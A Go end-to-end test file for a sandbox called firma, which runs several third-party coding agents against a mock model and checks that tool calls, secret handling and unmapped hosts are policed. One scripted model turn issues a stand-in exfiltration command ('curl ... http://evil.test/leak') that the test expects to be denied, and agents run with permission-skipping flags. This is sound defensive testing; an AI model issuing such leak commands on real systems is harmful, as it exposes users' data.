package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"firma/internal/testkit/models"
)

// coder is a coding agent as npm has it, and what its provider is asked.
type coder struct {
	name     string
	files    []string // below node_modules: what it needs
	script   string   // that runs it, with QUESTION
	key      string   // variable of its credential
	host     string   // its provider
	path     string   // a rule's: where the model is
	unwanted string   // what it asks for besides, whoever uses it
}

// coders are those of `make test-agents`; the first one is small enough to be tried
// always.
var coders = []coder{
	{"gemini", []string{"@google/gemini-cli"}, `node node_modules/@google/gemini-cli/bundle/gemini.js --skip-trust --yolo -m gemini-2.5-flash -p QUESTION`,
		"GEMINI_API_KEY", "generativelanguage.googleapis.com", "/v1beta/**", "play.googleapis.com"},
	{"claude", []string{"@anthropic-ai/claude-code-linux-*"}, `node_modules/@anthropic-ai/claude-code-linux-*/claude --dangerously-skip-permissions -p QUESTION`,
		"ANTHROPIC_API_KEY", "api.anthropic.com", "/v1/messages/**", "api.anthropic.com/api/event_logging/v2/batch"},
	{"codex", []string{"@openai/codex-linux-*"}, `node_modules/@openai/codex-linux-*/vendor/*/bin/codex exec --skip-git-repo-check QUESTION`,
		"CODEX_API_KEY", "api.openai.com", "/v1/responses", "chatgpt.com"},
	{"opencode", []string{"opencode-linux-[ax]*64"}, `node_modules/opencode-linux-*64/bin/opencode run -m openai/gpt-5 QUESTION`,
		"OPENAI_API_KEY", "api.openai.com", "/v1/responses", "models.opencode.ai"},
	{"qwen", []string{"@qwen-code/qwen-code", "node-linux-*"}, `node_modules/node-linux-*/bin/node node_modules/@qwen-code/qwen-code/cli-entry.js --auth-type openai --openai-base-url https://api.openai.com/v1 -m gpt-5 --yolo -p QUESTION`,
		"OPENAI_API_KEY", "api.openai.com", "/v1/chat/completions", "aliyuncs.com"},
	{"copilot", []string{"detect-libc", "@github/copilot", "@github/copilot-linux-*"}, `COPILOT_PROVIDER_BASE_URL=https://api.openai.com/v1 COPILOT_MODEL=gpt-5 node node_modules/@github/copilot/npm-loader.js --allow-all-tools -p QUESTION`,
		"COPILOT_PROVIDER_API_KEY", "api.openai.com", "/v1/chat/completions", ""},
}

// TestAgents: coding agents that none of us wrote hold a conversation with a model in
// the sandbox, looked into and in a tunnel. A tool's call that is refused is told to
// the model in firma's words, and a provider that is refused to the person.
func TestAgents(t *testing.T) {
	dir, all := "../../bin/clients/agents", coders[:1]
	if d := os.Getenv("FIRMA_TEST_AGENTS"); d != "" {
		dir, all = d, coders
	}
	everyone(t, func(t *testing.T, s *stage) {
		model := &models.Server{}
		addr := s.serveTLS(t, model)
		for _, c := range all {
			t.Run(c.name, func(t *testing.T) {
				a := &desktop{s, c, model, addr}
				a.install(t, dir)
				t.Run("tool", a.tool)
				t.Run("tunnel", a.tunnel)
				t.Run("refused", a.refused)
			})
		}
	})
}

// desktop is where a person starts one of the coders.
type desktop struct {
	*stage
	coder
	model *models.Server
	addr  string
}

const secret = "sk-canary-of-the-agent"

func (a *desktop) install(t *testing.T, dir string) {
	t.Helper()
	for _, pattern := range a.files {
		found, _ := filepath.Glob(filepath.Join(dir, "node_modules", pattern))
		if len(found) != 1 {
			t.Fatalf("%d packages in %s are %s (make build-clients, or make build-agents)", len(found), dir, pattern)
		}
		rel, err := filepath.Rel(dir, found[0])
		must(t, err)
		must(t, os.CopyFS(filepath.Join(a.Project, rel), os.DirFS(found[0])))
	}
	must(t, a.Account.OwnTree(a.Home))
	t.Cleanup(func() { _ = os.RemoveAll(filepath.Join(a.Project, "node_modules")) })
}

// ask runs the agent with rules on top of the stage's, and more of a configuration.
func (a *desktop) ask(t *testing.T, rules, more, variables string) *result {
	t.Helper()
	more += fmt.Sprintf(`
[run.profiles.coder]
inherits = "codex"
env_passthrough = [%[1]q]
env_allow_secret = [%[1]q]
%[2]s
`, a.key, variables)
	p := run("bash", "-c", strings.ReplaceAll(a.script, "QUESTION", "'do it'"))
	p.flags = []string{"--profile", "coder"}
	p.config = a.looksAt(t, map[string]string{a.host: a.addr}, rules, more)
	p.env = []string{a.key + "=" + secret}
	r := a.run(t, p)
	a.wantSealed(t, r)
	log, err := os.ReadFile(r.log(t))
	must(t, err)
	if strings.Contains(string(log)+r.err, secret) {
		t.Errorf("the key is in the log, or on the screen\n%s", r.err)
	}
	return r
}

// tool: the model has a command run that writes, asks for what is allowed, and asks
// for what is not.
func (a *desktop) tool(t *testing.T) {
	a.origin.Journal.Reset()
	a.model.Reset(
		models.Turn{Shell: "echo written > by-" + a.name + "; curl -sS -o /dev/null -w '%{http_code}\\n' http://plain.test/agent; curl -sS http://evil.test/leak; echo end of the tool"},
		models.Turn{Text: "all is done"})
	r := a.ask(t, fmt.Sprintf("\n[[rules]]\nhost = %q\npath = %q\naction_class = \"communication.external.send\"\n", a.host, a.path), "", "").wantCode(t, 0)
	if !strings.Contains(r.out, "all is done") {
		t.Errorf("the person saw %s", r)
	}
	results := strings.Join(a.model.Results(), "\n")
	for _, part := range []string{"200", "PolicyDenied", "end of the tool"} {
		if !strings.Contains(results, part) {
			t.Errorf("the model was told %q, without %q", results, part)
		}
	}
	if asked := a.model.Requests(); len(asked) == 0 || asked[len(asked)-1].Key != secret {
		t.Errorf("the provider was asked with %+v", asked)
	}
	if text, err := os.ReadFile(filepath.Join(a.Project, "by-"+a.name)); err != nil || string(text) != "written\n" {
		t.Errorf("in the workspace: %q, %v", text, err)
	}
	events := r.events(t)
	wantRecorded(t, events, 1, answered("plain.test/agent", 200))
	wantRecorded(t, events, 1, pattern("request", "DENY", "PolicyDenied", "evil.test/leak"))
	if seen := a.origin.Journal.Requests("evil.test"); len(seen) != 0 {
		t.Errorf("at the far side: %v", seen)
	}
	if a.unwanted != "" && len(find(events, pattern("", "DENY", "UnclassifiedIntent", a.unwanted))) == 0 {
		t.Errorf("no refusal of %s is recorded%s", a.unwanted, told(events))
	}
}

// tunnel: nothing is read on the way, and the agent verifies the provider itself.
func (a *desktop) tunnel(t *testing.T) {
	a.model.Reset(models.Turn{Text: "hello from the model"})
	ca := filepath.Join(a.Project, "ca.pem")
	r := a.ask(t, rule(a.host, "communication.external.send"), fmt.Sprintf("[sidecar.interceptor.https_mitm]\nbypass_hosts = [%q]\n", a.host),
		fmt.Sprintf("env_set = { NODE_EXTRA_CA_CERTS = %q, SSL_CERT_FILE = %q }", ca, ca)).wantCode(t, 0)
	if !strings.Contains(r.out, "hello from the model") {
		t.Errorf("the person saw %s", r)
	}
	if len(find(r.events(t), pattern("tunnel", "ALLOW", "", a.host))) == 0 {
		t.Errorf("no tunnel is recorded%s", told(r.events(t)))
	}
}

// refused: the agent ends by itself, with firma's word for it, and asked nobody.
func (a *desktop) refused(t *testing.T) {
	a.model.Reset(models.Turn{Text: "hello from the model"})
	r := a.ask(t, "", "", "")
	why := "no mapping rule covers " + a.host
	if a.name != "copilot" && !strings.Contains(r.out+beforeSummary(r.err), why) || !strings.Contains(r.err, "UnclassifiedIntent: "+why) || r.code == 0 {
		t.Errorf("status %d; the person saw %s", r.code, r)
	}
	if asked := a.model.Requests(); len(asked) != 0 {
		t.Errorf("the provider was asked with %+v", asked)
	}
	if len(find(r.events(t), pattern("request", "DENY", "UnclassifiedIntent", a.host))) == 0 {
		t.Errorf("no refusal is recorded%s", told(r.events(t)))
	}
}

// beforeSummary is what the agent itself wrote.
func beforeSummary(errors string) string {
	before, _, _ := strings.Cut(errors, "\nfirma: ")
	return before
}
